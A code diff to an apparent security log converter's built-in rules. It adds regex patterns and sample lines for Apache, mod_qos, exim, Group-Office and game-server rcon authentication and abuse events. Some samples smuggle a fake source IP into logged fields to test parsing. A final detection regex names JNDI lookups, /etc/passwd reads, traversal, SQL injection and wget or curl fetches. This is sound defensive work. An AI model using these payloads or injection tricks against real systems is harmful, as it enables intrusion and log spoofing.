@@ -263,6 +263,38 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
                 }
               ]
             }
+          },
+          {
+            "line": "[2019-03-05 10:00:01.000001] [auth_basic:error] [pid 77] [client 192.0.2.96:3333] AH01618: user admin not found: /private",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.96",
+                  "Port": [
+                    3333
+                  ]
+                }
+              ],
+              "Target": [
+                {
+                  "User": "admin"
+                }
+              ],
+              "CreateTime": "2019-03-05T10:00:01.000001Z"
+            }
+          },
+          {
+            "line": "[2019-03-05 10:00:01.000001] [auth_basic:error] [pid 77] [client 2001:db8::97:3333] AH01618: user admin not found: /private",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::97",
+                  "Port": [
+                    3333
+                  ]
+                }
+              ]
+            }
           }
         ]
       },
@@ -271,7 +303,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "apache"
         ],
-        "pattern": "^\\[client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port>\\d{1,5}))?|\\[(?<ip6p>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip6>[0-9A-Fa-f:]{2,45}))\\] (?:AH\\d{5}: )?(?:Digest: )?user [`'\"]?(?<user>[^`'\"]{0,256}?)[`'\"]?(?:: password mismatch| in realm [`'\"][^`'\"]{0,256}[`'\"] not found): ",
+        "pattern": "^\\[client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port>\\d{1,5}))?|\\[(?<ip6p>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip6>[0-9A-Fa-f:]{2,45}))\\] (?:AH\\d{5}: )?(?:Digest: )?user [`'\"]?(?<user>[^`'\"]{0,256}?)[`'\"]?(?:: password mismatch| in realm [`'\"][^`'\"]{0,256}[`'\"] (?:not found|denied by provider)): ",
         "category": [
           "Access.Forced"
         ],
@@ -315,6 +347,21 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
                 }
               ]
             }
+          },
+          {
+            "line": "[Sat Jun 01 02:17:42.1 2013] [auth_digest:error] [pid 9] [client 192.0.2.81:99] AH01791: user `mallory' in realm `private' denied by provider: /secret",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.81"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "mallory"
+                }
+              ]
+            }
           }
         ]
       },
@@ -323,7 +370,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "apache"
         ],
-        "pattern": "^\\[client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port>\\d{1,5}))?|\\[(?<ip6p>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip6>[0-9A-Fa-f:]{2,45}))\\] (?:AH\\d{5}: )?client used wrong authentication scheme: (?<uri>\\S{0,2048})",
+        "pattern": "^\\[client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port>\\d{1,5}))?|\\[(?<ip6p>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip6>[0-9A-Fa-f:]{2,45}))\\] (?:AH\\d{5}: )?(?:Digest: )?client used wrong authentication scheme(?: `[^' ]{0,64}')?: (?<uri>\\S{0,2048})",
         "category": [
           "Access.Forced"
         ],
@@ -346,6 +393,30 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
                 }
               ],
               "Priority": "Low"
+            }
+          },
+          {
+            "line": "[Sat Jun 01 02:17:42 2013] [error] [client 192.0.2.79] Digest: client used wrong authentication scheme `Basic': /private",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.79"
+                }
+              ],
+              "Priority": "Low"
+            }
+          },
+          {
+            "line": "[Sat Jun 01 02:17:42.5 2013] [auth_digest:error] [pid 12] [client 192.0.2.80:4711] AH01781: client used wrong authentication scheme `Basic': /private",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.80",
+                  "Port": [
+                    4711
+                  ]
+                }
+              ]
             }
           }
         ]
@@ -536,7 +607,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "apache"
         ],
-        "pattern": "^\\[client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port>\\d{1,5}))?|\\[(?<ip6p>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip6>[0-9A-Fa-f:]{2,45}))\\] (?:AH\\d{5}: )?(?<what>Invalid URI in request|Invalid method in request|invalid URI path|Cannot map [A-Z]{1,20} \\S{0,2048} to file|request failed: (?:URI too long|malformed request line|erroneous characters after protocol string|error reading the headers|invalid characters in URI)|client sent HTTP/1\\.1 request without hostname|Invalid Content-Length)",
+        "pattern": "^\\[client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port>\\d{1,5}))?|\\[(?<ip6p>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip6>[0-9A-Fa-f:]{2,45}))\\] (?:AH\\d{5}: )?(?<what>Invalid URI in request|Invalid method in request|invalid URI path|Cannot map [A-Z]{1,20} \\S{0,2048} to file|request failed: (?:URI too long|malformed request line|erroneous characters after protocol string|error reading the headers|invalid characters in URI)|client sent HTTP/1\\.1 request without hostname|Invalid Content-Length|HTTP Request Line; (?:Invalid method token|Unrecognized protocol|Invalid protocol|URI incorrectly encoded|Extraneous text found|Rejected HTTP/0\\.9 request|Unable to parse URI|Missing URI)|Request header exceeds LimitRequestFieldSize|Request header field is missing ':' separator|Request header (?:field name|value) is malformed|Number of request headers exceeds LimitRequestFields)",
         "category": [
           "Recon.Network"
         ],
@@ -602,6 +673,46 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
               "Source": [
                 {
                   "IP": "192.0.2.37"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[Tue Mar 05 10:00:01.000001 2019] [core:debug] [pid 77] protocol.c(1234): [client 192.0.2.89:3333] AH03445: HTTP Request Line; Invalid method token: '\\x16\\x03\\x01'",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.89"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[Tue Mar 05 10:00:01.000001 2019] [core:debug] [pid 77] [client 192.0.2.90:3333] AH02418: HTTP Request Line; Unrecognized protocol 'HTTP/1.1x' (perhaps whitespace was injected?)",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.90"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[Tue Mar 05 10:00:01.000001 2019] [core:info] [pid 77] [client 192.0.2.91:3333] AH00561: Request header exceeds LimitRequestFieldSize: Cookie",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.91"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[Tue Mar 05 10:00:01.000001 2019] [core:info] [pid 77] [client 192.0.2.92:3333] AH02429: Request header field name is malformed: X-(){",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.92"
                 }
               ]
             }
@@ -851,19 +962,18 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "apache"
         ],
-        "requires": "authorization failure for ",
-        "pattern": "^\\[client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port>\\d{1,5}))?|\\[(?<ip6p>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip6>[0-9A-Fa-f:]{2,45}))\\] (?:AH\\d{5}: )?user (?<user>[^:]{0,256}): authorization failure for \"(?<uri>[^\"]{0,2048})\"",
+        "pattern": "^\\[client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port>\\d{1,5}))?|\\[(?<ip6p>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip6>[0-9A-Fa-f:]{2,45}))\\] (?:AH\\d{5}: )?(?:user (?<user>[^:]{0,256}): authorization failure for \"(?<uri>[^\"]{0,2048})\"|access to (?<uri2>.{1,2048}?) failed, reason: user '(?<user2>[^']{0,256})' does not meet 'require'ments|Authorization of user (?<user3>.{0,256}?) to access (?<uri3>\\S{1,2048}) failed, reason: )",
         "category": [
           "Access.Unauthorized"
         ],
         "priority": "Low",
-        "description": "HTTP user {user} from {ip4}{ip6p}{ip6} is not authorized for {uri}",
+        "description": "HTTP user {user}{user2}{user3} from {ip4}{ip6p}{ip6} is not authorized for {uri}{uri2}{uri3}",
         "source": {
           "address": "{ip4}{ip6p}{ip6}",
           "port": "{port}{port6}"
         },
         "target": {
-          "user": "{user}",
+          "user": "{user}{user2}{user3}",
           "service": "http"
         },
         "samples": [
@@ -884,6 +994,37 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
                 "Access.Unauthorized"
               ],
               "Priority": "Low"
+            }
+          },
+          {
+            "line": "[Sun Aug 31 18:19:31 2008] [error] [client 192.0.2.87] access to /awstats/awstats.pl failed, reason: user 'ray' does not meet 'require'ments for user/valid-user to be allowed access",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.87"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "ray"
+                }
+              ],
+              "Priority": "Low"
+            }
+          },
+          {
+            "line": "[Sat Jun 01 11:23:08 2013] [error] [client 192.0.2.88] Authorization of user bob to access /private failed, reason: user is not part of the 'require'ed group(s).",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.88"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "bob"
+                }
+              ]
             }
           }
         ]
@@ -933,7 +1074,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "apache"
         ],
-        "pattern": "^\\[client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port>\\d{1,5}))?|\\[(?<ip6p>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip6>[0-9A-Fa-f:]{2,45}))\\] (?:AH\\d{5}: )?(?:Digest: )?(?<what>realm mismatch|unknown algorithm|invalid nonce|uri mismatch|invalid qop|received invalid opaque|user [^:]{0,256}: nonce expired)",
+        "pattern": "^\\[client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port>\\d{1,5}))?|\\[(?<ip6p>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip6>[0-9A-Fa-f:]{2,45}))\\] (?:AH\\d{5}: )?(?:Digest: )?(?<what>realm mismatch|unknown algorithm|invalid nonce|uri mismatch|invalid qop|received invalid opaque|user [^:]{0,256}: nonce expired|missing user, realm, nonce, uri, digest, cnonce, or nonce_count|invalid uri <|invalid nc |Warning, possible replay attack)",
         "category": [
           "Access.Forced"
         ],
@@ -964,6 +1105,57 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
               "Source": [
                 {
                   "IP": "192.0.2.73"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[Sat Jun 01 11:23:08 2013] [error] [client 192.0.2.82] Digest: missing user, realm, nonce, uri, digest, cnonce, or nonce_count in authorization header: /private",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.82"
+                }
+              ],
+              "Priority": "Low"
+            }
+          },
+          {
+            "line": "[Sat Jun 01 11:23:08 2013] [error] [client 192.0.2.83] Digest: invalid uri <http://[::1/x> in Authorization header",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.83"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[Sat Jun 01 11:23:08 2013] [error] [client 192.0.2.84] Digest: Warning, possible replay attack: nonce-count check failed: 1 != 3",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.84"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[Sat Jun 01 11:23:08.2 2013] [auth_digest:error] [pid 7] [client 192.0.2.85:1000] AH01775: invalid nc zz received - not a number",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.85"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[Sat Jun 01 11:23:08 2013] [error] [client 192.0.2.86] Digest: invalid nonce abc received - length is not 52",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.86"
                 }
               ]
             }
@@ -1084,6 +1276,155 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
             }
           }
         ]
+      },
+      {
+        "id": "apache.groupoffice-auth-failed",
+        "programs": [
+          "apache"
+        ],
+        "requires": "authentication failed for '",
+        "pattern": "^\\[client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port>\\d{1,5}))?|\\[(?<ip6p>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip6>[0-9A-Fa-f:]{2,45}))\\] (?:PHP [A-Za-z ]{1,20}: {1,2})?(?:\\[[^\\]]{1,64}\\] )?Password authentication failed for '(?<user>.{0,256}?)' from IP: '",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Medium",
+        "description": "Group-Office login as {user} failed from {ip4}{ip6p}{ip6}",
+        "source": {
+          "address": "{ip4}{ip6p}{ip6}",
+          "port": "{port}{port6}"
+        },
+        "target": {
+          "user": "{user}",
+          "service": "groupoffice"
+        },
+        "samples": [
+          {
+            "line": "[Tue Mar 05 10:00:01.000001 2019] [php7:notice] [pid 77] [client 192.0.2.93:3333] Password authentication failed for 'admin' from IP: '192.0.2.93'",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.93"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "admin",
+                  "Service": "groupoffice"
+                }
+              ],
+              "Category": [
+                "Access.Forced"
+              ],
+              "Priority": "Medium"
+            }
+          },
+          {
+            "line": "[Tue Mar 05 10:00:01.000001 2019] [php7:notice] [pid 77] [client 192.0.2.94:3333] Password authentication failed for 'x' from IP: '6.6.6.6'' from IP: '6.6.6.6'",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.94"
+                }
+              ]
+            }
+          }
+        ]
+      },
+      {
+        "id": "apache.mod-evasive-blacklisted",
+        "programs": [
+          "mod_evasive",
+          "apache"
+        ],
+        "requires": "Blacklisting address ",
+        "pattern": "^Blacklisting address (?<ip>[0-9A-Fa-f:.]{2,45}): possible DoS attack\\.",
+        "category": [
+          "Availability.DoS"
+        ],
+        "priority": "Medium",
+        "description": "mod_evasive blacklisted {ip}: request flood (possible DoS attack)",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "http"
+        },
+        "samples": [
+          {
+            "line": "Jun  1 11:23:08 web mod_evasive[2345]: Blacklisting address 192.0.2.95: possible DoS attack.",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.95"
+                }
+              ],
+              "Category": [
+                "Availability.DoS"
+              ],
+              "Priority": "Medium"
+            }
+          }
+        ]
+      },
+      {
+        "id": "apache.mod-qos-denied",
+        "programs": [
+          "apache"
+        ],
+        "requires": "access denied, QS_",
+        "pattern": "^(?:\\[client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port>\\d{1,5}))?|\\[(?<ip6p>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip6>[0-9A-Fa-f:]{2,45}))\\] mod_qos\\(\\d{3}\\): access denied, (?<rule>QS_[A-Za-z_]{1,40})|(?:mod_qos\\(\\d{3}\\): )?access denied, (?<crule>QS_SrvMaxConnPerIP|QS_SrvMaxConn|QS_ClientEventBlockCount) rule: (?:[a-z ]{1,30}=-?\\d{1,12}, ){1,4}c=(?<cip>[0-9A-Fa-f:.]{2,45})(?:,|$))",
+        "category": [
+          "Availability.DoS"
+        ],
+        "priority": "Low",
+        "description": "mod_qos refused {ip4}{ip6p}{ip6}{cip} ({rule}{crule})",
+        "source": {
+          "address": "{ip4}{ip6p}{ip6}{cip}",
+          "port": "{port}{port6}"
+        },
+        "target": {
+          "service": "http"
+        },
+        "samples": [
+          {
+            "line": "[Tue Mar 05 10:00:01 2019] [error] mod_qos(031): access denied, QS_SrvMaxConnPerIP rule: max=10, concurrent connections=11, c=192.0.2.98",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.98"
+                }
+              ],
+              "Category": [
+                "Availability.DoS"
+              ],
+              "Priority": "Low"
+            }
+          },
+          {
+            "line": "[Tue Mar 05 10:00:01.000001 2019] [qos:error] [pid 77] mod_qos(060): access denied, QS_ClientEventBlockCount rule: max=20, current=21, c=2001:db8::98",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::98"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[Tue Mar 05 10:00:01.000001 2019] [qos:error] [pid 77] [client 192.0.2.99:3333] mod_qos(041): access denied, QS_LocRequestPerSecLimit rule: /login(10), req/sec=12, c=192.0.2.99, id=abc",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.99"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[Tue Mar 05 10:00:01 2019] [info] mod_qos(000): access granted, c=192.0.2.98",
+            "expect": null
+          }
+        ]
       }
     ],
     "logformat": {
@@ -1115,6 +1456,13 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         },
         {
           "prefix": "^\\[(?<time>[A-Z][a-z]{2} [A-Z][a-z]{2} [ \\d]\\d \\d\\d:\\d\\d:\\d\\d(?:\\.\\d{1,6})? \\d{4})\\] \\[(?:[a-z_0-9]{0,40}:)?[a-z]{2,8}[0-9]?\\] (?:\\[pid (?<pid>\\d{1,10})(?::tid \\d{1,20})?\\] )?(?:[A-Za-z0-9_.-]{1,64}\\(\\d{1,6}\\): )?(?:\\(-?\\d{1,9}\\)[^:\\[]{0,200}: )?"
+        },
+        {
+          "prefix": "^\\[(?<time>\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d(?:\\.\\d{1,6})?)\\] \\[[a-z_0-9]{0,40}:[a-z]{2,8}[0-9]?\\] (?:\\[pid (?<pid>\\d{1,10})(?::tid \\d{1,20})?\\] )?(?:[A-Za-z0-9_.-]{1,64}\\(\\d{1,6}\\): )?(?:\\(-?\\d{1,9}\\)[^:\\[]{0,200}: )?\\[client (?<ip6>[0-9A-Fa-f]{0,4}:[0-9A-Fa-f:.]{1,41}):(?<port>\\d{1,5})\\] ",
+          "message": "[client [{ip6}]:{port}] "
+        },
+        {
+          "prefix": "^\\[(?<time>\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d(?:\\.\\d{1,6})?)\\] \\[(?:[a-z_0-9]{0,40}:)?[a-z]{2,8}[0-9]?\\] (?:\\[pid (?<pid>\\d{1,10})(?::tid \\d{1,20})?\\] )?(?:[A-Za-z0-9_.-]{1,64}\\(\\d{1,6}\\): )?(?:\\(-?\\d{1,9}\\)[^:\\[]{0,200}: )?"
         }
       ]
     }
@@ -1530,7 +1878,103 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
   },
   {
     "file": "src/converters/syslog/rules/applog-exim.yaml",
-    "rules": [],
+    "rules": [
+      {
+        "id": "exim.no-ip-for-host",
+        "programs": [
+          "exim",
+          "exim4"
+        ],
+        "requires": "no IP address found for host ",
+        "pattern": "^(?:\\[\\d{1,10}\\] )?no IP address found for host (?<host>[^\\s()\\[\\]]{1,255}) \\(during SMTP connection from (?:[^\\s()\\[\\]]{1,255} )?(?:\\([^()\\s]{0,255}\\) )?\\[(?<ip>[0-9A-Fa-f:.]{2,45})\\](?::(?<port>\\d{1,5}))?(?: I=\\[[0-9A-Fa-f:.]{2,45}\\](?::\\d{1,5})?)?\\)$",
+        "category": [
+          "Recon.Network"
+        ],
+        "priority": "Low",
+        "description": "SMTP client {ip} has a reverse-DNS name ({host}) that does not resolve back",
+        "source": {
+          "address": "{ip}",
+          "port": "{port}"
+        },
+        "target": {
+          "service": "smtp"
+        },
+        "samples": [
+          {
+            "line": "2024-01-01 12:00:08 no IP address found for host bad.example.com (during SMTP connection from [192.0.2.8])",
+            "expect": {
+              "Category": [
+                "Recon.Network"
+              ],
+              "Priority": "Low",
+              "Source": [
+                {
+                  "IP": "192.0.2.8"
+                }
+              ]
+            }
+          },
+          {
+            "line": "2024-01-01 12:00:08 [4242] no IP address found for host 6.6.6.6 (during SMTP connection from [2001:db8::8]:41234 I=[192.0.2.25]:25)",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::8",
+                  "Port": [
+                    41234
+                  ]
+                }
+              ]
+            }
+          },
+          {
+            "line": "2024-01-01 12:00:08 1TlOjD-0003Zq-Iu no IP address found for host mx.example.org",
+            "expect": null
+          }
+        ]
+      },
+      {
+        "id": "exim.warn-spam",
+        "programs": [
+          "exim",
+          "exim4"
+        ],
+        "requires": " Warning: ",
+        "pattern": "^(?:\\[\\d{1,10}\\] )?(?:[0-9A-Za-z]{6}-[0-9A-Za-z]{6,11}-[0-9A-Za-z]{2,4} )?H=(?:[^\\s()\\[\\]]{1,255} )?(?:\\([^()\\s]{0,255}\\) )?\\[(?<ip>[0-9A-Fa-f:.]{2,45})\\](?::(?<port>\\d{1,5}))?(?: I=\\[[0-9A-Fa-f:.]{2,45}\\](?::\\d{1,5})?)?(?: [A-Za-z]{1,3}=(?:<[^>]{0,512}>|[^<\\s]\\S{0,300}|)){0,12} Warning: (?<what>[^\\n]{0,200}?(?:detected message as spam|[Ss]pam score|scored [0-9.]{1,8} spam points|X-Spam-Flag: YES)[^\\n]{0,200})$",
+        "category": [
+          "Abuse.Other"
+        ],
+        "priority": "Low",
+        "description": "exim ACL warning for a message from {ip} ({what})",
+        "source": {
+          "address": "{ip}",
+          "port": "{port}"
+        },
+        "target": {
+          "service": "smtp"
+        },
+        "samples": [
+          {
+            "line": "2024-01-01 12:00:18 1TlOjD-0003Zq-Iu H=(x) [192.0.2.18]:1234 F=<a@b.example> Warning: \"SpamAssassin as Debian-exim detected message as spam (12.5)\"",
+            "expect": {
+              "Priority": "Low",
+              "Source": [
+                {
+                  "IP": "192.0.2.18",
+                  "Port": [
+                    1234
+                  ]
+                }
+              ]
+            }
+          },
+          {
+            "line": "2024-01-01 12:00:18 H=(x) [192.0.2.18]:1234 Warning: Sender rate 12.0 / 1h",
+            "expect": null
+          }
+        ]
+      }
+    ],
     "logformat": {
       "program": "exim",
       "aliases": [
@@ -1695,6 +2139,96 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
     }
   },
   {
+    "file": "src/converters/syslog/rules/applog-groupoffice.yaml",
+    "rules": [
+      {
+        "id": "groupoffice.login-failed",
+        "programs": [
+          "groupoffice"
+        ],
+        "requires": "LOGIN FAILED for user: ",
+        "pattern": "^LOGIN FAILED for user: \"(?<user>.{0,256})\" from IP: (?<ip>[0-9A-Fa-f:.]{2,45})$",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Medium",
+        "description": "Group-Office login as {user} failed from {ip}",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "user": "{user}",
+          "service": "groupoffice"
+        },
+        "samples": [
+          {
+            "line": "[2014-01-06 10:59:38]LOGIN FAILED for user: \"admin\" from IP: 192.0.2.160",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.160"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "admin",
+                  "Service": "groupoffice"
+                }
+              ],
+              "Category": [
+                "Access.Forced"
+              ],
+              "Priority": "Medium",
+              "CreateTime": "2014-01-06T10:59:38Z"
+            }
+          },
+          {
+            "line": "[2014-01-06 9:05:01][alice] LOGIN FAILED for user: \"bob\" from IP: 192.0.2.161",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.161"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "bob"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[2014-01-06 9:05:01]LOGIN FAILED for user: \"x\" from IP: 6.6.6.6\" from IP: 192.0.2.162",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.162"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[2014-01-06 9:05:02][alice] LOGIN SUCCESS for user: \"alice\" from IP: 192.0.2.161",
+            "expect": null
+          }
+        ]
+      }
+    ],
+    "logformat": {
+      "program": "groupoffice",
+      "aliases": [
+        "group-office"
+      ],
+      "description": "Group-Office info log",
+      "lines": [
+        {
+          "prefix": "^\\[(?<time>\\d{4}-\\d\\d-\\d\\d \\d{1,2}:\\d\\d:\\d\\d)\\](?:\\[[^\\]]{1,256}\\])? ?",
+          "time": "YYYY-MM-DD h:mm:ss"
+        }
+      ]
+    }
+  },
+  {
     "file": "src/converters/syslog/rules/applog-guacamole.yaml",
     "rules": [],
     "logformat": {
@@ -1704,6 +2238,85 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
       "lines": [
         {
           "prefix": "^(?=\\d\\d:\\d\\d:\\d\\d\\.\\d{3} \\[[^\\]]{1,80}\\] (?:TRACE|DEBUG|INFO|WARN|ERROR) {1,2}[A-Za-z0-9_.$]{1,120} - )"
+        }
+      ]
+    }
+  },
+  {
+    "file": "src/converters/syslog/rules/applog-hlds.yaml",
+    "rules": [
+      {
+        "id": "hlds.bad-rcon",
+        "programs": [
+          "hlds"
+        ],
+        "requires": "Bad Rcon: \"",
+        "pattern": "^Bad Rcon: \"(?<command>.{0,1024})\" from \"(?<ip>\\d{1,3}(?:\\.\\d{1,3}){3}):(?<port>\\d{1,5})\"$",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Medium",
+        "description": "Game server remote console (rcon) password refused for {ip}",
+        "source": {
+          "address": "{ip}",
+          "port": "{port}"
+        },
+        "target": {
+          "service": "rcon"
+        },
+        "samples": [
+          {
+            "line": "L 01/01/2024 - 12:00:01: Bad Rcon: \"rcon 12345 \"hunter2\" status\" from \"192.0.2.50:27005\"",
+            "expect": {
+              "Category": [
+                "Access.Forced"
+              ],
+              "Priority": "Medium",
+              "Source": [
+                {
+                  "IP": "192.0.2.50",
+                  "Port": [
+                    27005
+                  ]
+                }
+              ],
+              "Target": [
+                {
+                  "Service": "rcon"
+                }
+              ]
+            }
+          },
+          {
+            "line": "L 01/01/2024 - 12:00:01: Bad Rcon: \"rcon 1 \"x\" status\" from \"6.6.6.6:1\"\" from \"192.0.2.51:27005\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.51"
+                }
+              ]
+            }
+          },
+          {
+            "line": "L 01/01/2024 - 12:00:02: Rcon: \"rcon 12345 \"pass\" status\" from \"192.0.2.52:27005\"",
+            "expect": null
+          }
+        ]
+      }
+    ],
+    "logformat": {
+      "program": "hlds",
+      "aliases": [
+        "srcds",
+        "counter-strike",
+        "cstrike",
+        "goldsrc"
+      ],
+      "description": "Half-Life / Counter-Strike dedicated server log",
+      "lines": [
+        {
+          "prefix": "^L (?<time>\\d\\d/\\d\\d/\\d{4} - \\d\\d:\\d\\d:\\d\\d): ",
+          "time": "MM/DD/YYYY - hh:mm:ss"
         }
       ]
     }
@@ -1852,7 +2465,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "http-access"
         ],
-        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?=[^ \"]{0,4096}?(?<payload>\\$\\{jndi:|\\$%7[Bb]jndi|%24%7[Bb]jndi|/etc/passwd|/etc/shadow|%2[Ff]etc%2[Ff]passwd|\\.\\./\\.\\./|\\.\\.%2[Ff]\\.\\.|%2[Ee]%2[Ee]%2[Ff]|%2[Ee]%2[Ee]/|\\.%2[Ee]/|[Uu][Nn][Ii][Oo][Nn](?:\\+|%20|/\\*\\*/)(?:[Aa][Ll][Ll](?:\\+|%20))?[Ss][Ee][Ll][Ee][Cc][Tt]|<script|%3[Cc]script|eval-stdin\\.php|cmd\\.exe|/bin/sh|\\bwget(?:\\+|%20)http|\\bcurl(?:\\+|%20)http))(?<path>[^ \"]{1,4096}) HTTP/\\d\\.\\d\" (?<status>\\d{3}) ",
